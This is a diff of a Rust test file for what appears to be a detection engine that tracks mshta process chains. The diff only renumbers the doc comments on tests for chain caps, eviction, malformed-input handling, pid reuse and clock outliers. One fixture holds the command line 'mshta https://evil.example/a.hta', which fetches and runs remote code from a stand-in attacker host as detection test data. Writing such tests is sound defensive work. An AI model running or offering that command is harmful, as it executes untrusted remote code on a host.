@@ -70,7 +70,7 @@ fn run(input: &str, config: Config) -> Report {
     analyze(input.as_bytes(), &config).unwrap()
 }
 
-/// 1. One mshta with many children: the chain lists at most
+/// Item 1: One mshta with many children: the chain lists at most
 /// `max_chain_children`, counts them all, and tracked processes stay
 /// within `max_processes` after every push, chain members included.
 #[test]
@@ -99,7 +99,7 @@ fn a_chain_with_many_children_is_capped_and_counted() {
     assert_eq!(c.children[0].pid, 1000);
 }
 
-/// 1. Chain members beyond `max_processes` are evicted (and counted in
+/// Item 1: Chain members beyond `max_processes` are evicted (and counted in
 /// their chain) even when the per-chain cap would keep them.
 #[test]
 fn chain_members_never_exceed_max_processes() {
@@ -116,7 +116,7 @@ fn chain_members_never_exceed_max_processes() {
     assert!(c.totals.truncated);
 }
 
-/// 1. Activity per chain is capped per kind, distinct targets first.
+/// Item 1: Activity per chain is capped per kind, distinct targets first.
 #[test]
 fn chain_activity_is_capped_per_kind_with_distinct_targets_first() {
     let config = Config { max_chain_activity: 20, ..Config::default() };
@@ -133,7 +133,7 @@ fn chain_activity_is_capped_per_kind_with_distinct_targets_first() {
     assert!(c.dns.iter().any(|d| d.query == "rare.example"));
 }
 
-/// 2. A chain streamed one event per push: every update carries a bounded
+/// Item 2: A chain streamed one event per push: every update carries a bounded
 /// chain (the work per push does not grow with the chain).
 #[test]
 fn streaming_a_chain_one_event_per_push_stays_bounded() {
@@ -152,7 +152,7 @@ fn streaming_a_chain_one_event_per_push_stays_bounded() {
     }
 }
 
-/// 3. The inventory is capped, the overflow counted and reported.
+/// Item 3: The inventory is capped, the overflow counted and reported.
 #[test]
 fn the_inventory_is_capped_with_a_counted_overflow() {
     let config = Config { max_inventory: 10, ..Config::default() };
@@ -178,7 +178,7 @@ fn the_inventory_is_capped_with_a_counted_overflow() {
     assert!(r.warnings.iter().any(|w| w.contains("max_inventory")), "{:?}", r.warnings);
 }
 
-/// 4. A first line that is a JSON array does not switch the input to
+/// Item 4: A first line that is a JSON array does not switch the input to
 /// array mode: every chain after it is found.
 #[test]
 fn a_json_array_line_is_one_item_set_not_a_mode() {
@@ -191,7 +191,7 @@ fn a_json_array_line_is_one_item_set_not_a_mode() {
     }
 }
 
-/// 5. A lone UTF-16 surrogate in the command line (as JSON.stringify and
+/// Item 5: A lone UTF-16 surrogate in the command line (as JSON.stringify and
 /// Python write one) no longer hides the chain; the items are flagged.
 #[test]
 fn a_lone_surrogate_does_not_hide_the_chain() {
@@ -207,7 +207,7 @@ fn a_lone_surrogate_does_not_hide_the_chain() {
     assert!(r.warnings.iter().any(|w| w.starts_with("item 0:") && w.contains("surrogate")), "{:?}", r.warnings);
 }
 
-/// 6. Eviction past `max_processes` on one host: all counted, the cap held.
+/// Item 6: Eviction past `max_processes` on one host: all counted, the cap held.
 #[test]
 fn eviction_past_the_cap_on_one_host_holds_the_cap() {
     let config = Config { max_processes: 1_000, ..Config::default() };
@@ -222,7 +222,7 @@ fn eviction_past_the_cap_on_one_host_holds_the_cap() {
     assert_eq!(r.stats.processes_evicted, 9_000);
 }
 
-/// 7. One element nested deeper than 128 levels is skipped like any bad
+/// Item 7: One element nested deeper than 128 levels is skipped like any bad
 /// element: the rest of the array is read.
 #[test]
 fn a_deep_element_does_not_drop_the_rest_of_the_array() {
@@ -234,7 +234,7 @@ fn a_deep_element_does_not_drop_the_rest_of_the_array() {
     assert_eq!(r.chains[0].children.len(), 1);
 }
 
-/// 9. Starts sharing a pid and a time, with long command lines that differ
+/// Item 9: Starts sharing a pid and a time, with long command lines that differ
 /// only at the end: each is its own process (pid reuse, not a repeat).
 #[test]
 fn same_pid_same_time_starts_are_distinct_processes() {
@@ -256,7 +256,7 @@ fn same_pid_same_time_starts_are_distinct_processes() {
     assert_eq!(r.stats.processes_tracked, 1);
 }
 
-/// 11. One far-future event does not move its host's clock: nothing turns
+/// Item 11: One far-future event does not move its host's clock: nothing turns
 /// late, the chain keeps its reasons, and a warning says so.
 #[test]
 fn a_far_future_event_is_quarantined_with_a_warning() {
@@ -278,7 +278,7 @@ fn a_far_future_event_is_quarantined_with_a_warning() {
     assert_eq!(r.stats.clock_outliers, 1);
 }
 
-/// 13. CR-only line endings and several objects on one line split into
+/// Item 13: CR-only line endings and several objects on one line split into
 /// their items.
 #[test]
 fn cr_only_endings_and_objects_on_one_line_are_items() {
@@ -293,7 +293,7 @@ fn cr_only_endings_and_objects_on_one_line_are_items() {
     }
 }
 
-/// 14. `coverage.hosts_not_listed` counts every host left out.
+/// Item 14: `coverage.hosts_not_listed` counts every host left out.
 #[test]
 fn hosts_not_listed_counts_every_host_left_out() {
     let v: Vec<String> =
@@ -302,7 +302,7 @@ fn hosts_not_listed_counts_every_host_left_out() {
     assert_eq!(r.coverage.hosts_not_listed, 50);
 }
 
-/// 17. A self-parented mshta is one chain, not two.
+/// Item 17: A self-parented mshta is one chain, not two.
 #[test]
 fn a_self_parented_mshta_is_one_chain() {
     let l = start("PC1", T0, 1, 100, MSHTA, "mshta https://evil.example/a.hta", 1, 100, MSHTA);
@@ -311,7 +311,7 @@ fn a_self_parented_mshta_is_one_chain() {
     assert!(!r.chains[0].root.inferred);
 }
 
-/// 18. One out-of-range numeric field no longer rejects an event its GUID
+/// Item 18: One out-of-range numeric field no longer rejects an event its GUID
 /// identifies: the field is null, the item flagged.
 #[test]
 fn a_bad_numeric_field_is_nulled_when_the_guid_identifies_the_event() {
@@ -336,7 +336,7 @@ fn a_bad_numeric_field_is_nulled_when_the_guid_identifies_the_event() {
     assert!(r.errors[0].reason.contains("ProcessId"), "{:?}", r.errors);
 }
 
-/// 16. A snapshot whose checksum is right but whose values are forged (here:
+/// Item 16: A snapshot whose checksum is right but whose values are forged (here:
 /// truncated to a valid prefix with a recomputed checksum is not possible
 /// without the internals, so a damaged byte re-sealed) fails at restore or
 /// restores into an engine whose report works: never later.
